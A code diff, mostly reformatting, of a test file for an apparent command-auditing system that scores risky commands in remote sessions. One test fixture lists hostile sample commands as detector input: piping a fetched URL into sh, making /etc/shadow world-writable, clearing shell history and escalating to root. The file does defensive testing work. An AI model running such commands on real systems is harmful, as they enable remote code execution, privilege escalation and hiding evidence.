@@ -34,8 +34,7 @@ const ruleNamed = (rules: AuditedCommandRule[], name: string) => {
   return rule;
 };
 const sessionRow = async (id: number) => (await db.select().from(remoteSessions).where(eq(remoteSessions.id, id)))[0]!;
-const runJob = (payload: { rulesVersion: number; afterId?: number }) =>
-  reanalyzeAllHandler.handle(reanalyzeAllJob.schema.parse(payload), {} as never);
+const runJob = (payload: { rulesVersion: number; afterId?: number }) => reanalyzeAllHandler.handle(reanalyzeAllJob.schema.parse(payload), {} as never);
 
 const DEMO = ["sudo su -", "chmod 777 /etc/shadow", "history -c", "curl http://x | sh", "mysql -u root -p", { masked: 9 }, "ls -la"];
 
@@ -166,9 +165,7 @@ describe("vulnerability analysis", () => {
     expect(versions.every((r) => r.v === 3)).toBe(true);
 
     // A stale analysis cannot overwrite a newer one.
-    const stale = await import("@/lib/analysis/queries/findings").then((m) =>
-      m.replaceSessionFindings({ sessionId: ssh.id, rulesVersion: 2, findings: [] }),
-    );
+    const stale = await import("@/lib/analysis/queries/findings").then((m) => m.replaceSessionFindings({ sessionId: ssh.id, rulesVersion: 2, findings: [] }));
     expect(stale.stored).toBe(false);
     expect(await getSessionFindings({ sessionId: ssh.id })).toHaveLength(5);
   });
@@ -179,7 +176,10 @@ describe("vulnerability analysis", () => {
     const builtIn = rules.find((r) => r.builtIn)!;
     await expect(deleteAuditedCommand({ actor: admin, id: builtIn.id })).rejects.toBeInstanceOf(AppError);
     const mine = rules.find((r) => !r.builtIn)!;
-    const bad = { ...ruleFormSchema.parse({ name: "x", pattern: "ls", sessionType: "terminal", criticality: "low", score: "1", action: "alert" }), pattern: "(a+)\\1" };
+    const bad = {
+      ...ruleFormSchema.parse({ name: "x", pattern: "ls", sessionType: "terminal", criticality: "low", score: "1", action: "alert" }),
+      pattern: "(a+)\\1",
+    };
     await expect(updateAuditedCommand({ actor: admin, id: mine.id, form: bad })).rejects.toThrow(/Backreferences are not supported/);
     expect(await getRulesVersion()).toBe(3);
     const removed = await deleteAuditedCommand({ actor: admin, id: mine.id });
